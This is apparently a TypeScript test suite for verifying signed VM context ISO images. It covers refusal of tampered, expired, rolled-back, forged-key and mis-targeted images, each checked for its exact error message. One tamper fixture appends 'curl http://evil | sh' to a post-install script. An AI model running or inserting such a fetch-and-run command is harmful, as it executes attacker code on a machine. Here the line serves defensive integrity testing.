/**
 * verifyContext on real images: signed by contextgen, read back by our ISO reader (the agent's
 * reader), tampered through real tools (xorriso extracts, genisoimage re-masters). Each refusal is
 * checked for its exact one-line reason; every tampered image is first shown to differ only by the
 * tampering (the untouched re-master verifies).
 */
import { appendFileSync, chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { readContextDir } from '../../lib/context/index.js';
import { inputFromDir, readSignature, SIGNATURE_PATH, verifyContext, verifyIso, type PublicKey, type VerifyFacts } from '../../lib/signing/index.js';
import { cg, tempDir, TEMPLATE } from '../host-tools/helpers.js';
import { extract, genisoimage, MAC, MAC2, OTHER_UUID, readInput, VM_UUID, writeKeyPair } from './support.js';

let dir: string;
let trusted: PublicKey[];
let otherKey: PublicKey[];
let signedIso: string;
let unsignedIso: string;
let priv: string;
const now = new Date('2030-01-01T00:00:00Z');
const facts = { uuid: VM_UUID.toUpperCase(), macs: [MAC.toUpperCase().replaceAll(':', '-'), '52:54:00:00:00:99'], now };

async function iso(name: string, extra: string[]): Promise<string> {
  const out = join(dir, name);
  const r = await cg(['iso', '-o', out, '--from', TEMPLATE, '--mtime', '1700000000', ...extra], { cwd: dir });
  expect(r.err).toEqual([]);
  expect(r.code).toBe(0);
  return out;
}

beforeAll(async () => {
  dir = tempDir('sig-verify-');
  const k = writeKeyPair(dir, 'operator');
  priv = k.priv;
  trusted = [k.key.publicKey];
  otherKey = [writeKeyPair(dir, 'intruder').key.publicKey];
  signedIso = await iso('signed.iso', ['--sign-key', priv, '--uuid', VM_UUID, '--mac', MAC, '--expires', '2031-01-01', '--serial', '5']);
  unsignedIso = await iso('unsigned.iso', []);
});

/** Re-master the signed ISO's tree after `tamper` changed it, with genisoimage -R -J. */
function remastered(tamper: (tree: string) => void = () => undefined, flags = ['-R', '-J'], label = 'CONTEXT'): string {
  const tree = extract(signedIso);
  tamper(tree);
  return genisoimage(tree, flags, label);
}

const refusal = (iso: string, keys = trusted, f: VerifyFacts = facts) => {
  const v = verifyContext(readInput(iso), keys, f);
  expect(v.ok).toBe(false);
  return v.ok ? '' : v.why;
};

describe('a signed context verifies', () => {
  it('as contextgen wrote it, on the VM it was made for (UUID and MAC in any spelling)', () => {
    const v = verifyContext(readInput(signedIso), [...otherKey, ...trusted], facts);
    expect(v).toMatchObject({ ok: true, keyId: trusted[0]!.keyId });
    if (!v.ok) return;
    expect(v.manifest).toMatchObject({ uuid: VM_UUID, macs: [MAC], serial: 5, label: 'CONTEXT', instanceId: 'web01-2024-001' });
    expect(v.manifest.notAfter?.toISOString()).toBe('2031-01-01T00:00:00.000Z');
    expect(v.manifest.files.map((f) => `${f.mode.toString(8)} ${f.path}`)).toEqual([
      '444 common/authorized_keys', '444 common/context.ini', '444 common/network', '444 common/routes', '555 post-install',
    ]);
  });

  it('as a genisoimage -R -J copy of its tree (modes kept exactly)', () => {
    expect(verifyContext(readInput(remastered()), trusted, facts).ok).toBe(true);
  });

  it('as a genisoimage -r -J copy (modes rationalised to 0444/0555)', () => {
    const copy = remastered(() => undefined, ['-r', '-J']);
    const img = readInput(copy);
    expect(img.files.get('common/network')!.mode).toBe(0o444);
    expect(img.files.get('post-install')!.mode).toBe(0o555);
    expect(verifyContext(img, trusted, facts).ok).toBe(true);
  });

  it('from an extracted tree read the way a mounted CD is (readContextDir + lstat modes)', async () => {
    const tree = extract(signedIso);
    chmodSync(join(tree, 'common/network'), 0o600); // a different non-executable mode is the same signed mode
    const input = inputFromDir(await readContextDir(tree), tree, 'CONTEXT', { rockRidge: true });
    expect(verifyContext(input, trusted, facts).ok).toBe(true);
  });

  it('with the serial equal to or newer than the last one applied', () => {
    expect(verifyContext(readInput(signedIso), trusted, { ...facts, lastSerial: 5 }).ok).toBe(true);
    expect(verifyContext(readInput(signedIso), trusted, { ...facts, lastSerial: 4 }).ok).toBe(true);
  });
});

describe('refused, with one line saying why', () => {
  it('a file whose content changed', () => {
    const copy = remastered((t) => appendFileSync(join(t, 'post-install'), 'curl http://evil | sh\n'));
    expect(refusal(copy)).toBe('a file differs from the signed manifest: "post-install" content changed');
  });

  it('a file whose executable bit changed, either way', () => {
    const copy = remastered((t) => {
      chmodSync(join(t, 'post-install'), 0o644);
      chmodSync(join(t, 'common/network'), 0o755);
    });
    expect(refusal(copy)).toBe('2 files differ from the signed manifest: "common/network" mode 0555 (signed 0444), "post-install" mode 0444 (signed 0555)');
  });

  it('an added file', () => {
    const copy = remastered((t) => {
      mkdirSync(join(t, 'common/extra'));
      writeFileSync(join(t, 'common/extra/payload'), 'x');
    });
    expect(refusal(copy)).toBe('a file differs from the signed manifest: "common/extra/payload" added');
  });

  it('a removed file', () => {
    const copy = remastered((t) => rmSync(join(t, 'common/routes')));
    expect(refusal(copy)).toBe('a file differs from the signed manifest: "common/routes" removed');
  });

  it('an altered manifest (a changed hash re-written into the signature file)', () => {
    const copy = remastered((t) => {
      const p = join(t, SIGNATURE_PATH);
      writeFileSync(p, readFileSync(p, 'utf8').replace(/^(file 0555 \d+ )[0-9a-f]{64}/m, `$1${'0'.repeat(64)}`));
    });
    expect(refusal(copy)).toBe(`bad signature: ${SIGNATURE_PATH} does not verify with trusted key ${trusted[0]!.keyId} (manifest altered or signed by another key)`);
  });

  it('a context signed by a key that is not trusted', () => {
    expect(refusal(signedIso, otherKey)).toBe(`signed by key ${trusted[0]!.keyId}, which is not trusted (trusted: ${otherKey[0]!.keyId})`);
  });

  it('another key claiming the trusted key id', () => {
    // A forger writes the trusted key id on a signature made with their own key.
    const forged = readInput(signedIso);
    const other = { ...otherKey[0]!, keyId: trusted[0]!.keyId };
    const v = verifyContext(forged, [other], facts);
    expect(v).toEqual({ ok: false, keyId: trusted[0]!.keyId, why: `bad signature: ${SIGNATURE_PATH} does not verify with trusted key ${trusted[0]!.keyId} (manifest altered or signed by another key)` });
  });

  it('an unsigned context while a key is pinned', () => {
    expect(refusal(unsignedIso)).toBe(`unsigned context (no ${SIGNATURE_PATH}), but 1 trusted key is pinned`);
    expect(readSignature(readInput(unsignedIso))).toEqual({ state: 'unsigned' });
  });

  it('an expired context', () => {
    expect(refusal(signedIso, trusted, { ...facts, now: new Date('2031-01-01T00:00:00Z') })).toBe(
      'expired: valid until 2031-01-01T00:00:00Z, it is now 2031-01-01T00:00:00Z',
    );
  });

  it('a context made for another VM (UUID)', () => {
    expect(refusal(signedIso, trusted, { ...facts, uuid: OTHER_UUID })).toBe(`signed for VM UUID ${VM_UUID}, but this VM's UUID is ${OTHER_UUID}`);
    expect(refusal(signedIso, trusted, { ...facts, uuid: undefined })).toBe(`signed for VM UUID ${VM_UUID}, but this VM reports no usable SMBIOS UUID`);
    expect(refusal(signedIso, trusted, { ...facts, uuid: '00000000-0000-0000-0000-000000000000' })).toMatch(/reports no usable SMBIOS UUID$/);
  });

  it('a VM missing one of the signed MACs', () => {
    expect(refusal(signedIso, trusted, { ...facts, macs: [MAC2] })).toBe(`signed for NIC MAC ${MAC}, which no NIC of this VM has`);
  });

  it('a serial older than the one applied, or none once serials are in use (rollback)', () => {
    expect(refusal(signedIso, trusted, { ...facts, lastSerial: 6 })).toBe('serial 5 is older than serial 6 already applied (rollback refused)');
    expect(refusal(unsignedIso, trusted, { ...facts, lastSerial: 6 })).toMatch(/^unsigned context/);
  });

  it('a different volume label', () => {
    expect(refusal(remastered(undefined, ['-R', '-J'], 'CIDATA'))).toBe('volume label "CIDATA" differs from the signed "CONTEXT"');
  });

  it('a copy without Rock Ridge (Joliet only: no reader can tell the modes)', () => {
    expect(refusal(remastered(undefined, ['-J']))).toBe(
      '5 files differ from the signed manifest: "common/authorized_keys" has no recorded mode (no Rock Ridge), "common/context.ini" has no recorded mode (no Rock Ridge), "common/network" has no recorded mode (no Rock Ridge), "common/routes" has no recorded mode (no Rock Ridge) and 1 more',
    );
  });

  it('a symlink in place of a signed file, through either reader', async () => {
    const tree = extract(signedIso);
    rmSync(join(tree, 'common/routes'));
    writeFileSync(join(tree, 'routes.real'), readFileSync(join(extract(signedIso), 'common/routes')));
    symlinkSync('../routes.real', join(tree, 'common/routes'));
    // Both read paths refuse a link before anything is verified (lib/context/read-dir.ts, lib/iso9660 readAllFiles):
    // one rule, one line, whichever way the CD is read.
    await expect(readContextDir(tree)).rejects.toThrow('common/routes: a symbolic link (-> ../routes.real); a context holds regular files only');
    expect(() => verifyIso(genisoimage(tree, ['-R', '-J']), trusted, facts)).toThrow(/common\/routes.*symbolic link/);
  });

  it('no trusted key at all: nothing to verify against (the caller keeps today\'s behaviour)', () => {
    expect(verifyContext(readInput(signedIso), [], facts)).toEqual({ ok: false, why: 'no trusted key to verify the context against' });
  });
});

describe('verifyIso (the agent\'s one call)', () => {
  it('returns the verdict and exactly the bytes it verified, which are what readAllFiles reads', async () => {
    const { openIso, readAllFiles } = await import('../../lib/iso9660/index.js');
    const r = verifyIso(signedIso, trusted, facts);
    expect(r.verdict.ok).toBe(true);
    expect(r.label).toBe('CONTEXT');
    const img = openIso(signedIso);
    try {
      expect(r.files).toEqual(readAllFiles(img));
    } finally {
      img.close();
    }
    expect(verifyIso(signedIso, trusted, { ...facts, uuid: OTHER_UUID }).verdict).toMatchObject({ ok: false, why: `signed for VM UUID ${VM_UUID}, but this VM's UUID is ${OTHER_UUID}` });
  });
});
